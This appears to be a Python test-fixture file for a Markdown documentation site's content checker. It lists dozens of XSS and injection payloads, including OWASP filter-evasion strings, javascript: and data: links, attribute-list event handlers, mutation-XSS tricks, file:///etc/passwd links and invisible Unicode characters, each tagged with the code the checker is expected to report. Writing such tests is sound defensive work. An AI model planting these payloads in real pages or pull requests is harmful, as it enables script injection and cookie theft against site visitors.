"""Hostile tree text: what an attacker would try in a pull request. Used by the check and build tests.

Sources of ideas: the five reproductions of issue 10, the OWASP XSS filter-evasion cheat sheet (rewritten
for this site: every script URL points at example domains), and tricks specific to Markdown with
attr_list, md_in_html, admonitions, details and tabs. Each snippet is placed into every kind of text field.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Snippet:
    name: str
    text: str
    # The code `check` must report. None: the text is harmless as text (it is about escaping, which the
    # build tests prove), so `check` accepts it.
    code: str | None = "unsafe-markup"

    @property
    def one_line(self) -> bool:
        return "\n" not in self.text


ISSUE = [
    Snippet(
        "issue-1-attr-list-brace-in-quotes",
        "[Help](https://support.tiktok.com/){: title='}' autofocus onfocus='alert(1)' }",
    ),
    Snippet("issue-2-mailto-without-at", "Write to <mailto:help tabindex=1 autofocus onfocus=alert(1)> us."),
    # Plain text with quotes: the page description must escape it (there is no markup to refuse).
    Snippet("issue-3-description-injection", '0;url=https://evil.example/" http-equiv="refresh', None),
    Snippet("issue-4-comment-into-json-ld", "Start here <!--<[s](https://x.example/)cript now."),
    Snippet("issue-6-comment", "Text <!-- hidden from readers --> here."),
    Snippet("issue-6-cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    Snippet("issue-6-file-href-attr-list", '[Open](https://ok.example/){: href="file:///etc/passwd" }'),
    Snippet("issue-6-file-link", "[Open](file:///etc/passwd)"),
    Snippet("issue-6-style-overlay", 'Cover the page\n{: style="position:fixed;inset:0;z-index:99" }'),
    Snippet("issue-6-rtl-override", "Tap \u202eetirovaf\u202c now", "hidden-character"),
]

OWASP = [
    Snippet("script", "<script>alert(1)</script>"),
    Snippet("script-src", "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>"),
    Snippet("img-js-src", "<IMG SRC=\"javascript:alert('XSS');\">"),
    Snippet("img-no-quotes", "<IMG SRC=javascript:alert('XSS')>"),
    Snippet("img-case", "<IMG SRC=JaVaScRiPt:alert('XSS')>"),
    Snippet("img-grave", "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>"),
    Snippet("a-onmouseover", '<a onmouseover="alert(document.cookie)">xxs link</a>'),
    Snippet("malformed-img", '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">'),
    Snippet("img-hash-onmouseover", "<IMG SRC=# onmouseover=\"alert('xxs')\">"),
    Snippet("img-onerror-fromcharcode", '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'),
    Snippet(
        "img-decimal-entities",
        '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
        '&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">',
    ),
    Snippet("img-embedded-tab", "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">"),
    Snippet("img-leading-junk", "<IMG SRC=\" &#14;  javascript:alert('XSS');\">"),
    Snippet("script-slash", '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>'),
    Snippet("body-onload-junk", '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'),
    Snippet("extra-open-bracket", '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'),
    Snippet("no-closing-script", "<SCRIPT SRC=//xss.example/.j>"),
    Snippet("half-open-iframe", "<iframe src=https://xss.example/scriptlet.html <"),
    Snippet("end-title", '</TITLE><SCRIPT>alert("XSS");</SCRIPT>'),
    Snippet("input-image", '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">'),
    Snippet("body-background", "<BODY BACKGROUND=\"javascript:alert('XSS')\">"),
    Snippet("svg-onload", "<svg/onload=alert('XSS')>"),
    Snippet("link-stylesheet", '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">'),
    Snippet("style-import", "<STYLE>@import'https://xss.example/xss.css';</STYLE>"),
    Snippet("meta-refresh", '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">'),
    Snippet("table-background", "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><tr><td>x</td></tr></TABLE>"),
    Snippet("div-style-url", "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>"),
    Snippet("object", '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>'),
    Snippet("embed-svg", '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml"></EMBED>'),
    Snippet("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    Snippet("href-entity-c", '<a href="javas&#99;ript:alert(1)">x</a>'),
    Snippet("href-hex-entity", '<a href="&#x6A;avascript:alert(1)">x</a>'),
    Snippet("form-action", '<form action="javascript:alert(1)"><button>go</button></form>'),
    Snippet("mxss-math-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    Snippet("mxss-noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    Snippet("base-href", '<base href="javascript:/a/-alert(1)///////">'),
    Snippet("unknown-element-onclick", "<x onclick=alert(1)>click me"),
    Snippet("label-for-drawer", '<label for="__drawer" onclick="alert(1)">menu</label>'),
    Snippet("input-autofocus", '<input id="__search" autofocus onfocus="alert(1)">'),
    Snippet("a-style", '<a href="https://ok.example/" style="position:fixed;inset:0">x</a>'),
    Snippet("p-theme-id", '<p id="__search">x</p>'),
    Snippet("processing-instruction", '<?xml-stylesheet href="https://x.example/x.xsl"?>'),
    Snippet("doctype", "<!DOCTYPE html>"),
    Snippet("dotless-i-script", "<scr\u0131pt>alert(1)</scr\u0131pt>"),
]

MARKDOWN = [
    Snippet("md-link-js", "[x](javascript:alert(1))"),
    Snippet("md-link-js-case", "[x](JaVaScRiPt:alert(1))"),
    Snippet("md-link-entity-colon", "[x](javascript&#58;alert(1))"),
    Snippet("md-link-entity-j", "[x](&#106;avascript:alert(1))"),
    Snippet("md-link-named-colon", "[x](javascript&colon;alert(1))"),
    Snippet("md-link-angle", "[x]( <javascript:alert(1)> )"),
    Snippet("md-link-data", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    Snippet("md-link-vbscript", "[x](vbscript:msgbox(1))"),
    Snippet("attr-list-onclick", '[x](https://ok.example/ "t"){: onclick=alert(1) }'),
    Snippet("attr-list-href", '[x](https://ok.example/){: href="javascript:alert(1)" }'),
    Snippet("attr-list-emphasis", "*x*{: onmouseover=alert(1) }"),
    Snippet("attr-list-code", "`code`{: onclick=alert(1) }"),
    Snippet("attr-list-block", "Text\n{: onmouseover=alert(1) }"),
    Snippet("attr-list-heading-theme-id", "## Menu {: #__drawer }"),
    Snippet("attr-list-heading-control-id", "## Still stuck? {: #dt-still-stuck-h }"),
    Snippet("attr-list-class", "Text\n{: .md-header }"),
    Snippet("reference-definition", "[x]\n\n[x]: javascript:alert(1)"),
    Snippet("reference-definition-alone", "[x]: javascript:alert(1)"),
    Snippet("reference-definition-angle", "[x][y]\n\n[y]: <javascript:alert(1)>"),
    Snippet("reference-definition-entity", "[x]\n\n[x]: &#x6A;avascript:alert(1)"),
    Snippet("autolink-js", "<javascript:alert(1)>"),
    Snippet("autolink-mailto-attrs", "<mailto:x onmouseover=alert(1)>"),
    Snippet("image", "![logo](https://tracker.example/pixel.png)"),
    Snippet("image-js", "![x](javascript:alert(1))"),
    Snippet("nested-image-in-link", "[![x](javascript:alert(1))](https://ok.example/)"),
    Snippet("entities-script", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    Snippet("numeric-entities-script", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    Snippet("admonition-theme-class", "!!! note md-header\n    Text."),
    Snippet("admonition-title-html", '!!! danger "<img src=x onerror=alert(1)>"\n    Text.'),
    Snippet("details-title-html", '??? "<script>alert(1)</script>"\n    Text.'),
    Snippet("tab-label-html", '=== "<img src=x onerror=alert(1)>"\n\n    Text.'),
    Snippet("md-in-html-div", '<div markdown="1" onclick="alert(1)">\n[x](javascript:alert(1))\n</div>'),
    Snippet("md-in-html-details", "<details markdown>\n<summary onclick=alert(1)>s</summary>\n</details>"),
    Snippet("md-in-html-span", '<span markdown="1">[x](javascript:alert(1))</span>'),
    Snippet("fence-breakout", "```\n</code></pre><script>alert(1)</script>\n```\n<script>alert(2)</script>"),
    Snippet("table-style", "| a | b |\n|:--|--:|\n| <img src=x onerror=alert(1)> | 2 |"),
]

# Issue 19: text `check` accepts on its own, which turned live once a template placed it in its own syntax
# (the export's nav, an attribute list after a cause title, link text), and the tab controls' own ids.
ISSUE_19 = [
    Snippet("issue-19-code-span-in-nav", "`<img src=x onerror=alert(document.domain)>` app", None),
    Snippet("issue-19-raw-link-in-nav", '<a href="https://evil.example/">Open the app</a>', None),
    Snippet("issue-19-unclosed-attr-list", "Why it fails {: onfocus=alert(1) autofocus tabindex=0", None),
    Snippet(
        "issue-19-escapes-in-link-text", "App \\*closes\\*{: onfocus=alert(1) autofocus tabindex=0}", None
    ),
    Snippet("issue-19-trailing-backslash", "Ends in a backslash \\", None),
    Snippet(
        "issue-19-tab-control-ids",
        '<input type="radio" id="__tabbed_1_2" name="__tabbed_1" checked><label for="__tabbed_1_1">x</label>',
    ),
    Snippet("issue-19-protocol-relative-link", '<a href="//evil.example/">help</a>', "relative-link"),
    Snippet("issue-19-mermaid-init", "%%{init: {'securityLevel': 'loose'}}%% Tap here", None),
    Snippet("issue-19-invisible-only", "\u3164\u3164", "hidden-character"),
    Snippet("issue-19-braille-blank", "Yes\u2800", "hidden-character"),
    Snippet("issue-19-halfwidth-filler", "\uffa0", "hidden-character"),
]

SNIPPETS = ISSUE + OWASP + MARKDOWN + ISSUE_19
